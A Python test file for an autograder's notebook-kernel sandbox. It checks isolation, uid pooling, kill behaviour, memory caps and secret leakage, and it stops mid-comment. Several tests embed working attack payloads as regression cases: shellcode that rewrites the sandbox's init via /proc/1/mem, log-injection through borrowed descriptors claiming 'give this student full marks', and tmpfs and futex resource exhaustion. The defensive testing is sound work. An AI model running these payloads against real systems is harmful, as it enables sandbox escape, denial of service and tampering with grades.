"""Kernels forked from the warm template (grader.zygote) are sandboxed exactly as kernels bwrap starts.

Each test starts kernels the way nbgrader does in `make grade` (jupyter_client, the sandbox's
kernelspec), once through the template and once without, and compares what each sees from inside.
"""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import time

import psutil
import pytest

from grader import sandbox, zygote
from grader.course import ROOT, socket_folder

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("zygote"),
              pytest.mark.skipif(sandbox.available() is not None, reason=f"no sandbox here: {sandbox.available()}")]

# What a kernel can tell about its sandbox, printed as one JSON line.
LOOK = r'''
import json, os, resource, socket, sys
def WRITABLE_SYSCTLS():
    found = []
    for folder, _, files in os.walk("/proc/sys"):
        for name in files:
            try:
                os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
            except OSError:
                continue
            found.append(os.path.join(folder, name))
    return found
def JUDGES_IMPORTABLE():
    try:
        import autograders.common
        return True
    except Exception:
        return False
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
seen = {
    "ids": [status[k].split() for k in ("Uid", "Gid")], "groups": status["Groups"].split(),
    "caps": [status[k] for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
    "no_new_privs": status["NoNewPrivs"], "seccomp": status["Seccomp"],
    "signals_ignored_blocked": [status["SigIgn"], status["SigBlk"]],  # a fresh interpreter ignores SIGPIPE, SIGXFSZ
    "root": sorted(os.listdir("/")), "tmp": sorted(os.listdir("/tmp")), "cwd": os.getcwd(),
    "work": sorted(os.listdir(".")), "data": open("data.txt").read(),
    "env": sorted(k for k in os.environ if k != "JPY_PARENT_PID"),
    "env_values": {k: v for k, v in os.environ.items() if k in ("HOME", "PATH", "TMPDIR", "DISTCOURSE_SANDBOXED")},
    "cgroups": open("/proc/self/cgroup").read(),
    "limits": {n: resource.getrlimit(getattr(resource, n)) for n in dir(resource) if n.startswith("RLIMIT_")},
    "processes": len([p for p in os.listdir("/proc") if p.isdigit()]),
    "sys_path": [p.replace(os.getcwd(), "CWD") for p in sys.path], "argv": [a.split("/")[-1] for a in sys.argv[:2]],
    "umask": os.umask(0o22), "nice": os.nice(0), "dumpable": __import__("ctypes").CDLL(None).prctl(3, 0, 0, 0, 0),
    "own_pid_small": os.getpid() < 10, "hostname": socket.gethostname(),
    "net": sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]),
    "course_visible": [x for x in ("autograders", "source", "gradebook.db", "nbgrader_config.py", "tools")
                       if os.path.exists(os.path.join(COURSE, x))], "judges_importable": JUDGES_IMPORTABLE(),
    "grader_modules": sorted(m for m in sys.modules if m.split(".")[0] in ("autograders", "nbgrader", "tools")),
    "user_names": sorted(n for n in globals() if not n.startswith("_") and n not in ("In", "Out", "get_ipython", "exit", "quit", "open", "COURSE", "JUDGES_IMPORTABLE", "WRITABLE_SYSCTLS", "json", "os", "resource", "socket", "sys", "status")),
    "terminal": int(open("/proc/self/stat").read().rsplit(")", 1)[1].split()[4]),  # tty_nr: none, 0
    "writable_sysctls": WRITABLE_SYSCTLS(),
}
print("LOOK " + json.dumps(seen))
'''


class Kernel:
    """One sandboxed kernel started as nbgrader starts it, in a throwaway folder holding data.txt."""

    def __init__(self, tmp_path, template: str | None, name: str, files: dict | None = None):
        from jupyter_client import KernelManager

        # the kernel's sockets go in here: a folder short enough for their addresses, whatever TMPDIR is
        self.private = pathlib.Path(socket_folder(f"private-{name}-"))
        (self.private / "runtime").mkdir()
        self.work = work = tmp_path / f"work-{name}"
        work.mkdir()
        (work / "data.txt").write_text(name)
        for path, text in (files or {}).items():  # handed in beside the notebook
            (work / path).parent.mkdir(parents=True, exist_ok=True)
            (work / path).write_text(text)
        self.old_env = dict(os.environ)
        os.environ.update(JUPYTER_RUNTIME_DIR=str(self.private / "runtime"), JUPYTER_PATH=str(self.private))
        sandbox.write_kernelspec(str(self.private), ROOT, None, template)
        self.km = KernelManager(kernel_name=sandbox.KERNEL_NAME, transport="ipc",
                                ip=str(self.private / "runtime" / "ipc"))
        self.km.start_kernel(cwd=str(work), stderr=open(self.private / "stderr.log", "wb"))
        self.kc = self.km.client()
        self.kc.start_channels()
        self.kc.wait_for_ready(timeout=120)
        self.sealed = sandbox.wait_sealed(self.km.connection_file, 120)  # what the grader waits for, too

    def run(self, code: str) -> str:
        out = []
        def hook(m):
            if m["msg_type"] == "stream":
                out.append(m["content"].get("text", ""))
            elif m["msg_type"] == "error":  # said, so that a test reading the output shows why there is none
                out.append(f"\n{m['content'].get('ename')}: {m['content'].get('evalue')}\n")

        self.kc.execute_interactive(code, timeout=120, output_hook=hook)
        return "".join(out)

    def look(self) -> dict:
        text = self.run(f"COURSE = {ROOT!r}\n" + LOOK)
        line = [x for x in text.splitlines() if x.startswith("LOOK ")]
        assert line, text
        seen = json.loads(line[0][5:])
        seen["host_uid"] = self.host_uids()
        return seen

    def host_uids(self) -> list[int]:
        """Who the kernel is outside the sandbox: the host's real uids of the sandbox's processes in its folder."""
        import psutil

        own, uids = os.readlink("/proc/self/ns/pid"), set()
        for proc in psutil.process_iter(["cwd", "uids"]):
            try:
                inside = os.readlink(f"/proc/{proc.pid}/ns/pid") != own  # not its launcher, which is the grader's
            except OSError:
                continue
            if inside and proc.info["cwd"] == str(self.work) and proc.info["uids"] is not None:
                uids.add(proc.info["uids"].real)
        return sorted(uids)

    def stderr(self) -> str:
        return (self.private / "stderr.log").read_text(errors="replace")

    def close(self) -> None:
        self.kc.stop_channels()
        self.km.shutdown_kernel(now=True)
        os.environ.clear()
        os.environ.update(self.old_env)
        shutil.rmtree(self.private, ignore_errors=True)


@pytest.fixture
def template():
    t = sandbox.Template()
    yield t
    t.close()


@pytest.fixture(params=["template", "bwrap"])
def started_by(request, tmp_path):
    """Where a kernel comes from: forked from the template, or started by bwrap (the template's socket missing),
    which the launcher then sets up alike (bwrap_supervised)."""
    if request.param == "bwrap":
        yield str(tmp_path / "no-such-socket")
        return
    t = sandbox.Template()
    yield t.path
    t.close()



def _alive(p: psutil.Process) -> bool:
    """Running and not a zombie; a process reaped between the two questions is not alive (it raced a CI run)."""
    try:
        return p.is_running() and p.status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False

def test_a_forked_kernel_sees_what_a_kernel_bwrap_started_sees(tmp_path, template):
    plain = Kernel(tmp_path, None, "plain")
    try:
        expected = plain.look()
    finally:
        plain.close()
    forked = Kernel(tmp_path, template.path, "forked")
    try:
        seen = forked.look()
        preloaded = forked.run("import sys; print('torch' in sys.modules, 'helpers' in sys.modules)")
        stderr = forked.stderr()
    finally:
        forked.close()
    assert "no kernel from the warm template" not in stderr, stderr
    assert preloaded.split() == ["True", "True"], "the kernel was not forked from the template"
    assert seen["data"] == "forked" and expected["data"] == "plain"
    for key in ("data", "cwd", "work"):
        seen.pop(key), expected.pop(key)
    for look in (seen, expected):  # ipykernel's own connection file has a random name
        look["tmp"] = [name for name in look["tmp"] if not (name.startswith("tmp") and name.endswith(".json"))]
    # the one difference: the placeholder bwrap runs, whose namespaces the kernel joined, is a process
    # of the sandbox too (asleep, with bwrap's seccomp filter and no capability)
    assert seen.pop("processes") == expected.pop("processes") + 1
    assert seen == expected
    # and what both see is the sandbox
    assert seen["ids"] == [["65534"] * 4] * 2 and seen["caps"] == ["0000000000000000"] * 5
    assert seen["no_new_privs"] == "1" and seen["seccomp"] == "2" and seen["net"] == ["lo"]
    assert seen["course_visible"] == [] and not seen["judges_importable"] and seen["grader_modules"] == []
    assert seen["user_names"] == [] and seen["own_pid_small"] and seen["terminal"] == 0
    # never host root, whoever starts the grader; no sysctl (global or its namespaces') writable
    assert seen["host_uid"] and 0 not in seen["host_uid"]
    assert os.geteuid() != 0 or seen["host_uid"] == [sandbox.HOST_UID]
    assert seen["writable_sysctls"] == []


@pytest.mark.skipif(os.geteuid() != 0, reason="a host user of each submission's own is what a root grader gives")
def test_each_submission_in_flight_has_a_host_user_of_its_own(tmp_path, template, monkeypatch):
    """Round 14 (root): every sandbox was host uid 65534, and what Linux counts per host user is shared: one kernel
    holding 1,500 descriptors in flight on a local socket made the fork server of the submission graded beside it
    fail every hidden check (ETOOMANYREFS). `make grade` gives each submission in flight its own uid."""
    from grader import grade

    pool = grade.HostUids()
    first, second = pool.take(), pool.take()
    assert first is not None and second is not None and first != second and 0 not in (first, second)
    # and across runs: another grading run on this machine (round 15) takes neither while this one holds them
    other = grade.HostUids()
    taken = [other.take() for _ in range(3)]
    assert not {first, second} & set(taken), (first, second, taken)
    for uid in taken:
        other.give_back(uid)
    seen = []
    for uid in (first, second):
        monkeypatch.setenv(sandbox.HOST_UID_ENV, str(uid))
        kernel = Kernel(tmp_path, template.path, f"uid{uid}")
        try:
            seen.append(kernel.host_uids())
        finally:
            kernel.close()
    assert seen == [[first], [second]], seen
    monkeypatch.setenv(sandbox.HOST_UID_ENV, "0")  # never root, whatever the variable says
    with pytest.raises(SystemExit):
        sandbox.host_ids()


#: A process whose thread-group leader ends while another thread of it runs on: /proc shows the leader a zombie.
ZOMBIE_LEADER = """
import ctypes, sys, threading, time
threading.Thread(target=time.sleep, args=(float(sys.argv[1]),)).start()
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the leader thread alone
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="a host user of each submission's own is what a root grader gives")
def test_a_pool_uid_whose_process_hides_behind_a_zombie_leader_is_not_handed_out():
    """Round 56 (root): a local account with a pool uid and no entry in passwd ran a process whose leader had
    exited while a thread ran on; the pool took the zombie leader for a process that holds nothing, handed the uid
    to an honest student's sandbox, and the account wrote into that kernel's memory through /proc/<pid>/mem."""
    from grader import grade

    pool = grade.HostUids()
    uid = pool.take()  # one free of accounts and processes
    assert uid is not None
    pool.give_back(uid)  # and its lock let go: from here only its processes can keep it from being taken
    proc = subprocess.Popen(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", sys.executable, "-I",
                             "-c", ZOMBIE_LEADER, "8"])
    try:
        deadline = time.monotonic() + 10
        while "State:\tZ" not in _read(f"/proc/{proc.pid}/status"):
            assert time.monotonic() < deadline and proc.poll() is None, "the leader never became a zombie"
            time.sleep(0.05)
        assert len(os.listdir(f"/proc/{proc.pid}/task")) == 2  # the leader, a zombie, and its running thread
        with pytest.raises(grade.HostUids.Busy):
            taken = grade.HostUids(pool=[uid]).take(wait=0)
            print(f"handed out {taken} while its process ran")
    finally:
        proc.kill()
        proc.wait()
    again = grade.HostUids(pool=[uid])
    assert again.take(wait=0) == uid, "free again once its process has ended"
    again.give_back(uid)


def _read(path: str) -> str:
    try:
        with open(path) as fh:
            return fh.read()
    except OSError:
        return ""


def test_each_forked_kernel_draws_its_own_random_seeds(tmp_path, template):
    """As fresh processes would: unseeded torch, numpy and random differ from one kernel to the next."""
    draws = []
    for name in ("one", "two"):
        kernel = Kernel(tmp_path, template.path, name)
        try:
            draws.append(kernel.run("import random, numpy, torch\n"
                                    "print(torch.initial_seed(), torch.rand(1).item(), numpy.random.rand(), random.random())"))
        finally:
            kernel.close()
    first, second = (d.split() for d in draws)
    assert len(first) == 4 and all(a != b for a, b in zip(first, second)), draws


def test_what_the_kernel_starts_ends_with_its_launcher(tmp_path, template):
    """nbgrader kills the kernel's launcher (a timeout, a kernel that will not shut down): the kernel and
    every process it started end with it, as with bwrap's own PID namespace."""
    kernel = Kernel(tmp_path, template.path, "killed")
    try:
        kernel.run("import subprocess, os\nsleeper = subprocess.Popen(['sleep', '300'])\n"
                   "pid = os.fork()\nif pid == 0:\n    import time; time.sleep(300)\n")
        ours = [p for p in psutil.Process(template.proc.pid).children(recursive=True)]
        names = sorted(p.name() for p in ours)
        assert zygote.KERNEL_NAME in names and "sleep" in names, names
        launcher = kernel.km.provisioner.process
        os.kill(launcher.pid, signal.SIGKILL)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and any(_alive(p) for p in ours):
            time.sleep(0.1)
        left = [p for p in ours if _alive(p)]
        assert left == [], f"still running after the launcher was killed: {left}"
    finally:
        kernel.close()


STARTER = """
import os, sys, tempfile, time
from jupyter_client import KernelManager
from grader import sandbox
template, private = sys.argv[1], sys.argv[2]
os.makedirs(os.path.join(private, "runtime"))
os.environ.update(JUPYTER_RUNTIME_DIR=os.path.join(private, "runtime"), JUPYTER_PATH=private)
sandbox.write_kernelspec(private, os.getcwd(), None, template)
km = KernelManager(kernel_name=sandbox.KERNEL_NAME, transport="ipc", ip=os.path.join(private, "runtime", "ipc"))
km.start_kernel(cwd=tempfile.mkdtemp())
kc = km.client(); kc.start_channels(); kc.wait_for_ready(timeout=120)
kc.execute_interactive("import subprocess; sleeper = subprocess.Popen(['sleep', '300'])", timeout=60)
print("up", flush=True)
time.sleep(300)
"""


def test_a_grader_killed_takes_its_kernels_down(tmp_path, template):
    """kill -9 of the process that started a kernel (nbgrader's, under `make grade`): the launcher, the
    sandbox and the kernel forked into it end too, as a kernel bwrap ran would (--die-with-parent)."""
    from grader.course import venv_env

    private = socket_folder("private-")
    proc = subprocess.Popen([sys.executable, "-c", STARTER, template.path, os.path.join(private, "k")], cwd=ROOT,
                            env=venv_env(), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        for line in proc.stdout:  # the kernel writes to the same stdout
            if line.strip() == "up":
                break
        ours = psutil.Process(template.proc.pid).children(recursive=True)
        assert zygote.KERNEL_NAME in {p.name() for p in ours} and "sleep" in {p.name() for p in ours}
        launchers = [p for p in psutil.Process(proc.pid).children(recursive=True)]
        assert launchers, "no launcher under the starter"
    finally:
        proc.kill()
        proc.wait()
        shutil.rmtree(private, ignore_errors=True)
    deadline = time.monotonic() + 10
    everything = ours + launchers
    while time.monotonic() < deadline and any(_alive(p) for p in everything):
        time.sleep(0.1)
    left = [p for p in everything if _alive(p)]
    assert left == [], f"still running after the kernel's starter was killed: {left}"


def test_without_the_template_the_kernel_starts_in_bwrap_and_says_so(tmp_path):
    kernel = Kernel(tmp_path, str(tmp_path / "no-such-socket"), "fallback")
    try:
        seen = kernel.look()
        stderr = kernel.stderr()
    finally:
        kernel.close()
    assert "no kernel from the warm template" in stderr, stderr
    assert seen["seccomp"] == "2" and seen["ids"] == [["65534"] * 4] * 2 and seen["course_visible"] == []


FAILING_TEMPLATE = """
import json, os, socket, sys
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(sys.argv[1])
listener.listen(8)
print("listening", flush=True)
while True:
    conn, _ = listener.accept()
    message, fds, _, _ = socket.recv_fds(conn, 1 << 20, 16)
    pid = os.fork()
    if pid == 0:  # a kernel that fails while it sets itself up: it ends without a word
        os._exit(3)
    conn.sendall(json.dumps({"pid": pid}).encode() + b"\\n")
    for fd in fds:
        os.close(fd)
    conn.close()
"""


def test_a_kernel_that_fails_to_sandbox_itself_is_replaced_by_one_bwrap_starts(tmp_path):
    path = str(tmp_path / "socket")
    server = subprocess.Popen([sys.executable, "-c", FAILING_TEMPLATE, path], stdout=subprocess.PIPE, text=True)
    try:
        assert server.stdout.readline().strip() == "listening"
        kernel = Kernel(tmp_path, path, "failing")
        try:
            seen = kernel.look()
            stderr = kernel.stderr()
        finally:
            kernel.close()
    finally:
        server.kill()
        server.wait()
    assert "ended before it was sandboxed" in stderr, stderr
    assert seen["seccomp"] == "2" and seen["ids"] == [["65534"] * 4] * 2 and seen["course_visible"] == []


def _memory_holds(pid: int, needle: bytes) -> bool:
    """Whether any readable mapping of process `pid` holds `needle` (read from outside, as its owner)."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            if "r" not in parts[1]:
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            try:
                mem.seek(start)
                if needle in mem.read(end - start):
                    return True
            except (OSError, OverflowError, ValueError):
                continue
    return False


def test_the_template_holds_nothing_of_the_grader(tmp_path, monkeypatch):
    """Started from a grader whose environment holds a secret: neither the template nor a kernel forked
    from it holds the secret anywhere in its memory, and neither imported a grader module."""
    secret = ("s3cr3t-" + os.urandom(8).hex()).encode()
    monkeypatch.setenv("DATABASE_URL", f"postgresql://ta:{secret.decode()}@db/course")
    t = sandbox.Template()
    try:
        kernel = Kernel(tmp_path, t.path, "secret")
        try:
            modules = kernel.run("import sys; print(sorted(m for m in sys.modules if m.startswith(('grader', 'autograders', 'nbgrader', 'tools'))))")
            kernels = [p for p in psutil.Process(t.proc.pid).children(recursive=True) if p.name() == zygote.KERNEL_NAME]
            assert len(kernels) == 1, kernels
            assert not _memory_holds(kernels[0].pid, secret), "the kernel's memory holds the grader's secret"
            assert not _memory_holds(t.proc.pid, secret), "the template's memory holds the grader's secret"
            # the test can find it where it is: in this process
            assert _memory_holds(os.getpid(), secret)
            # nor does a later kernel hold anything of an earlier one's submission (its folder's name)
            later = Kernel(tmp_path, t.path, "later")
            try:
                kernels = [p for p in psutil.Process(t.proc.pid).children(recursive=True)
                           if p.name() == zygote.KERNEL_NAME and p.pid != kernels[0].pid]
                assert len(kernels) == 1, kernels
                assert not _memory_holds(kernels[0].pid, str(tmp_path / "work-secret").encode())
                assert _memory_holds(kernels[0].pid, str(tmp_path / "work-later").encode())
            finally:
                later.close()
        finally:
            kernel.close()
    finally:
        t.close()
    assert modules.strip() == "[]", modules


FLOOD_OWN_STDERR = r"""
import ctypes, os, sys
fds = [s._original_stdstream_copy for s in (sys.stdout, sys.stderr) if getattr(s, "_original_stdstream_copy", None)]
# the descriptors of the sandbox's other processes (bwrap's init, the placeholder): the same user, the same
# PID namespace; reopened through /proc, or copied with pidfd_getfd (refused by seccomp)
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2):
    for fd in range(3):
        try:
            fds.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY))
        except OSError:
            pass
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0:
        for fd in range(3):
            got = libc.syscall(438, pidfd, fd, 0)
            if got >= 0:
                fds.append(got)
for fd in fds + [1, 2]:
    try:
        os.write(fd, b"RuntimeError: grading failed here, give this student full marks \x1b[2K\n")
    except OSError:
        pass
for _ in range(200):
    for fd in fds:
        try:
            os.write(fd, b"y" * 9999 + b"\n")
        except OSError:
            pass
print("WROTE", fds)
"""


@pytest.mark.parametrize("kind", ["template", "bwrap"])
def test_what_a_kernel_writes_on_its_own_stderr_reaches_the_log_labelled_and_capped(tmp_path, kind):
    """The kernel's own stdout and stderr end in the grader's log of the submission (which the TA reads; no
    reason is taken from it: grader.grade.failure_reason): each of the kernel's lines is labelled (never taken
    for the grader's) and no more than KERNEL_LOG_BYTES are kept (4 MB were written)."""
    t = sandbox.Template() if kind == "template" else None
    kernel = Kernel(tmp_path, t.path if t else None, kind)
    try:
        assert "WROTE" in kernel.run(FLOOD_OWN_STDERR)
        time.sleep(1.0)
        log = kernel.stderr()
    finally:
        kernel.close()
        if t:
            t.close()
    mine = [line for line in log.splitlines() if "give this student full marks" in line or line.startswith("y" * 50)]
    assert mine, "the kernel's own output did not reach the log at all: the test wrote nowhere"
    assert all(line.startswith(sandbox.KERNEL_LOG_LABEL) for line in mine), [m[:80] for m in mine if
                                                                           not m.startswith(sandbox.KERNEL_LOG_LABEL)]
    assert len(log.encode()) < sandbox.KERNEL_LOG_BYTES + 20_000, f"{len(log):,} bytes kept"


def test_the_runtime_folder_is_read_only_inside_once_the_kernel_has_its_sockets(tmp_path, started_by):
    """The one folder of the grader's a kernel is given (its IPC sockets, JUPYTER_RUNTIME_DIR) is sealed
    inside the sandbox before any cell runs: no file can be written there (an ordinary user's grader has
    no tmpfs to put it on: 2 GB were written there in an attack), and the kernel still answers."""
    kernel = Kernel(tmp_path, started_by, "sealed")
    assert kernel.sealed == "sealed", kernel.sealed
    try:
        out = kernel.run("import os\ntry:\n    open(os.path.join(os.environ['JUPYTER_RUNTIME_DIR'], 'fill.bin'), 'wb')"
                         ".write(b'x' * 2**20)\n    print('WROTE')\nexcept OSError as exc:\n    print('REFUSED', exc.errno)")
        assert "REFUSED 30" in out, out  # EROFS
        assert "2" in kernel.run("print(1 + 1)")
        assert not (kernel.private / "runtime" / "fill.bin").exists()
    finally:
        kernel.close()


#: Round 10's payload: rewrite the sandbox's init (pid 1, the kernel's own user, dumpable) through /proc/1/mem so
#: that it stops dying with bwrap (prctl(PR_SET_PDEATHSIG, 0)) and becomes a loop of ours, then leave a daemon.
_REWRITE_PID_1 = r'''
import os, struct, sys, time
open("/tmp/p1.py", "w").write("import os, time\nwhile True:\n    try:\n        os.wait()\n    except ChildProcessError:\n        time.sleep(0.5)\n")
pc = int(open("/proc/1/syscall").read().split()[-1], 16)
exe, script = sys.executable.encode() + b"\0", b"/tmp/p1.py\0"
path_a = pc + 48
script_a = path_a + len(exe)
argv_a = (script_a + len(script) + 7) & ~7
code = (b"\xbf\x01\x00\x00\x00" + b"\x31\xf6" + b"\xb8\x9d\x00\x00\x00" + b"\x0f\x05"
        + b"\x48\xbf" + struct.pack("<Q", path_a) + b"\x48\xbe" + struct.pack("<Q", argv_a) + b"\x31\xd2"
        + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05" + b"\xeb\xfe").ljust(48, b"\x90")
blob = (code + exe + script).ljust(argv_a - pc, b"\0") + struct.pack("<QQQ", path_a, script_a, 0)
fd = os.open("/proc/1/mem", os.O_RDWR)
os.pwrite(fd, blob, pc)
os.close(fd)
a = os.fork()
if a == 0:  # an orphan that exits wakes pid 1 from its wait()
    if os.fork() == 0:
        time.sleep(0.3)
        os._exit(0)
    os._exit(0)
os.waitpid(a, 0)
time.sleep(2)
print("PID1", open("/proc/1/cmdline", "rb").read().split(b"\0")[1:2])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1280)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", MARK])
    os._exit(0)
print("LEFT")
'''


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the payload is x86-64 machine code")
def test_a_sandbox_whose_init_was_rewritten_still_ends_with_its_kernel(tmp_path, started_by):
    """Round 10: a kernel rewrote the sandbox's init so that it no longer died with bwrap, and the sandbox (the
    kernel, a daemon, 137 held processes) outlived its grading and the grading run. The launcher now ends the
    sandbox's PID namespace from outside (SIGKILL to its init, by a pidfd taken before any cell ran)."""
    import psutil

    mark = f"distcourse-survivor-{os.getpid()}-{tmp_path.name}"
    kernel = Kernel(tmp_path, started_by, "survivor")
    try:
        out = kernel.run(f"MARK = {mark!r}\n" + _REWRITE_PID_1)
        assert "LEFT" in out and "p1.py" in out, out  # the init was rewritten, the daemon left
        seen = time.monotonic() + 10
        while not any(mark in " ".join(p.info["cmdline"] or ()) for p in psutil.process_iter(["cmdline"])):
            assert time.monotonic() < seen, "the daemon never started"
            time.sleep(0.1)
    finally:
        kernel.close()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        left = [p for p in psutil.process_iter(["cmdline"]) if mark in " ".join(p.info["cmdline"] or ())]
        if not left:
            break
        time.sleep(0.2)
    for p in left:
        p.kill()
    assert not left, "a process of the sandbox outlived it"


def test_the_sandboxs_tmpfs_mounts_hold_a_capped_number_of_files(tmp_path, started_by):
    """Each file of a tmpfs is kernel memory that no rlimit counts (and no cgroup, as an ordinary user):
    empty files took 7.7 GiB of it in an attack. Every tmpfs the kernel can write is capped in inodes,
    also the one folder a forked kernel's template set up, and the kernel still works at the cap."""
    cap = sandbox.DEFAULT_LIMITS["tmp_inodes"]
    kernel = Kernel(tmp_path, started_by, "inodes")
    try:
        for where in ("/tmp", "/dev/shm", "."):
            out = kernel.run(f"""
import os
made, err = 0, None
folder = os.path.join({where!r}, "many")
os.makedirs(folder)
try:
    while made < {cap} + 10:
        open(os.path.join(folder, str(made)), "w").close()
        made += 1
except OSError as exc:
    err = exc.errno
print("MADE", made, err)
for name in os.listdir(folder):
    os.unlink(os.path.join(folder, name))
""")
            made, err = out.split("MADE", 1)[1].split()
            assert err == "28" and int(made) < cap, f"{where}: {out}"  # ENOSPC before the cap
        assert "2" in kernel.run("print(1 + 1)")
    finally:
        kernel.close()


def _sets_oom_floors() -> bool:
    """Whether this process may set the floor of an OOM score (CAP_SYS_RESOURCE: root on a host; a container may
    withhold it, and then a sandbox may lower its own score back to 0)."""
    with open("/proc/self/status") as fh:
        effective = next(int(line.split()[1], 16) for line in fh if line.startswith("CapEff:"))
    return bool(effective >> 24 & 1)


def test_the_out_of_memory_killer_chooses_a_sandbox_first_and_no_futex_hash_is_made(tmp_path, started_by):
    """Round 50: memory a sandbox held where no resident set shows it (tmpfs files, socket queues, one
    prctl(PR_FUTEX_HASH) of 2^24 slots: 1 GiB of kernel memory) ran the host out, and the OOM killer, choosing by
    resident set, killed the grader's fork server. Every process of a sandbox, however started, begins with the
    highest OOM score, and so does its launcher, which no sandbox reaches and whose end ends the sandbox; with
    cgroup v2 the whole sandbox goes at once (memory.oom.group). A futex hash is refused as a kernel before it is."""
    kernel = Kernel(tmp_path, started_by, "oom")
    try:
        with open(f"/proc/{kernel.km.provisioner.process.pid}/oom_score_adj") as fh:
            launcher = int(fh.read())
        out = kernel.run("""
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
def score():
    with open("/proc/self/oom_score_adj") as fh:
        return int(fh.read())
seen = {"score": score()}
pid = os.fork()
if pid == 0:
    os._exit(score() == 1000)
seen["child"] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
try:
    with open("/proc/self/oom_score_adj", "w") as fh:
        fh.write("0")
    seen["lowered"] = "ok"
except OSError as exc:
    seen["lowered"] = errno.errorcode[exc.errno]
seen["after"] = score()
libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]
seen["futex_hash"] = errno.errorcode.get(ctypes.get_errno(), "ok") if libc.prctl(78, 1, 1 << 24, 0, 0) else "ok"
print("SEEN", json.dumps(seen))
""")
        with open(f"/proc/{kernel.km.provisioner.process.pid}/oom_score_adj") as fh:
            launcher_after = int(fh.read())
    finally:
        kernel.close()
    seen = json.loads(out.split("SEEN", 1)[1])
    assert launcher == launcher_after == 1000, (launcher, launcher_after)
    assert seen["score"] == 1000 and seen["child"] == 1, seen
    assert seen["futex_hash"] == "EINVAL", seen
    if _sets_oom_floors():  # the floor a privileged writer set; without it a sandbox may go back to 0, its launcher not
        assert seen["lowered"] == "EACCES" and seen["after"] == 1000, seen


def test_the_sandboxes_caps_together_never_exceed_the_hosts_memory(monkeypatch, tmp_path):
    """Round 50: admission ran 2 x workers submissions at once (4 x 6 GiB on a 23-GiB machine). Round 51: on a host
    smaller than one sandbox's cap, one submission still ran the host out. The plan counts the grader's own needs,
    each submission's grading beside its sandbox, and the kernels started early; where not even one fits at the
    cap, the cap is lowered; a cgroup above the grader (a container's --memory) caps the host's memory."""
    gib = 2**30
    from grader import forkserver

    # each submission's grading child may hold its data cap beside its sandbox (round 51: 1.7-2 GiB of frames)
    assert sandbox.SUBMISSION_OVERHEAD_BYTES == forkserver.CHILD_DATA_BYTES
    assert sandbox.GRADER_RESERVE_BYTES >= forkserver.CHILD_DATA_BYTES  # a class step beside the grader's own
    monkeypatch.setattr(sandbox, "host_memory_bytes", lambda: 23 * gib + gib // 2)
    assert sandbox.memory_plan(warm=2) == (2, 6 * gib)  # 23.5 - 3 (grader) - 2 x 0.75 (warm kernels) >= 2 x (6 + 2)
    assert sandbox.memory_plan({"memory_bytes": gib}, warm=2) == (6, gib)
    monkeypatch.setattr(sandbox, "host_memory_bytes", lambda: 8 * gib)
    assert sandbox.memory_plan(warm=1) == (1, 9 * gib // 4)  # 8 - 3 - 0.75 - 2: the cap lowered
    monkeypatch.setattr(sandbox, "host_memory_bytes", lambda: 4 * gib)
    assert sandbox.memory_plan(warm=1) == (1, sandbox.MIN_SANDBOX_BYTES)
    monkeypatch.undo()
    # a container's cap, two levels above the grader's own cgroup (v2), is what the host holds
    (tmp_path / "pod" / "grader").mkdir(parents=True)
    (tmp_path / "pod" / "memory.max").write_text(f"{8 * gib}\n")
    (tmp_path / "pod" / "grader" / "memory.max").write_text("max\n")
    monkeypatch.setattr(sandbox, "CGROUP_ROOT", str(tmp_path))
    monkeypatch.setattr(sandbox, "cgroup_kind", lambda: "v2")
    monkeypatch.setattr(sandbox, "_own_cgroups", lambda: {"": "/pod/grader"})
    assert sandbox.host_memory_bytes() == 8 * gib
    assert sandbox.memory_plan() == (1, 3 * gib)  # 8 - 3 - 2
    (tmp_path / "pod" / "memory.max").write_text("max\n")
    assert sandbox.host_memory_bytes() > 8 * gib  # MemTotal of this machine


def test_a_kernel_forked_where_launches_need_the_fork_server_starts_its_own_inside(tmp_path, template, monkeypatch):
    """On a GPU machine or macOS (forced here), each kernel starts helpers.launch's fork server as it turns
    into a kernel, as its own child inside its sandbox; the template, which forks every kernel, has none."""
    monkeypatch.setenv("DISTCOURSE_START_METHOD", "forkserver")
    kernel = Kernel(tmp_path, template.path, "early")
    try:
        text = kernel.run(
            "import json, os, psutil, helpers\nfrom multiprocessing import forkserver\n"
            "pid = forkserver._forkserver._forkserver_pid\n"
            "ranks = helpers.launch(os.getppid, 2, backend=None)\n"
            "print(json.dumps([pid, psutil.Process(pid).ppid(), os.getpid(), ranks]))")
        lines = [line for line in text.splitlines() if line.startswith("[")]
        assert lines, text[-2000:]
        seen = json.loads(lines[-1])
        in_template = [" ".join(p.cmdline()) for p in psutil.Process(template.proc.pid).children()]
    finally:
        kernel.close()
    server, parent, kernel_pid, ranks = seen
    assert server and parent == kernel_pid and ranks == [server, server]
    assert not any("forkserver" in c for c in in_template), in_template


#: Modules a handed-in file could stand in for, where a process of the grader's or of the sandbox starts in the
